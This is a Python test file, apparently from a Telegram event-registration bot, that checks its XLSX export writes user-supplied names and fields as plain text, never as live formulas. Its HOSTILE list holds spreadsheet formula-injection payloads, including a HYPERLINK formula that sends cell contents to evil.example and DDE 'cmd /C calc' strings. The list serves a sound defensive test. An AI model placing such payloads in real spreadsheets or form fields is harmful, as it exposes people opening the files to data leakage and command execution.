"""XLSX cells from people are text, never formulas (issue #14)."""

from __future__ import annotations

import io
from datetime import timedelta
from typing import Any

from openpyxl import Workbook, load_workbook

from db.base import utcnow
from db.models import User
from db.models.events import Event, EventSignup
from services.spreadsheet import append_row
from tests.client import TgClient

HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"жми")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


def read_back(value: str) -> str:
    """A carriage return may come back as a line feed (XML's line-end rule) or as itself (openpyxl with lxml)."""
    return value.replace("\r", "\n")


READ_BACK = [read_back(h) for h in HOSTILE]


def test_append_row_writes_formula_like_values_as_text() -> None:
    sheet = Workbook().active
    append_row(sheet, [*HOSTILE, "обычный текст", 42, "ok\x01"])
    data = io.BytesIO()
    sheet.parent.save(data)
    loaded = load_workbook(io.BytesIO(data.getvalue())).active
    cells = next(iter(loaded.iter_rows()))
    assert all(c.data_type != "f" for c in cells)
    assert [read_back(c.value) for c in cells[: len(HOSTILE)]] == READ_BACK
    assert cells[-1].value == "ok" and cells[-2].value == 42


async def test_event_registration_sheet_has_no_formula_from_people(staff: TgClient, db: Any) -> None:
    """The probe: a participant named ``=HYPERLINK(...)`` became a live formula in the sign-up sheet."""
    now = utcnow()
    async with db.session() as s:
        event = Event(
            title="=1+1 семинар",
            kind="seminar",
            starts_at=now + timedelta(days=2),
            ends_at=now + timedelta(days=2, hours=2),
            place_kind="address",
            place="@адрес",
            reg_deadline=now + timedelta(days=1),
            status="published",
            checkin_code="c0de",
            created_by=5001,
        )
        s.add(event)
        await s.flush()
        for i, hostile in enumerate(HOSTILE):
            person = User(
                tg_id=91000 + i,
                full_name=hostile,
                organisation=HOSTILE[-1 - i],
                phone="+79990000000",
                status="registered",
            )
            s.add(person)
            await s.flush()
            s.add(EventSignup(event_id=event.id, user_id=person.id, status="confirmed"))
        await s.commit()
        event_id = event.id
    await staff.press_data(f"eva:xlsx:{event_id}:0")
    [document] = staff.sent("SendDocument")
    workbook = load_workbook(io.BytesIO(document.method.document.data))
    cells = [c for row in workbook.active.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    names = {read_back(c.value) if isinstance(c.value, str) else c.value for c in cells}
    assert set(READ_BACK) <= names and "=1+1 семинар" in names
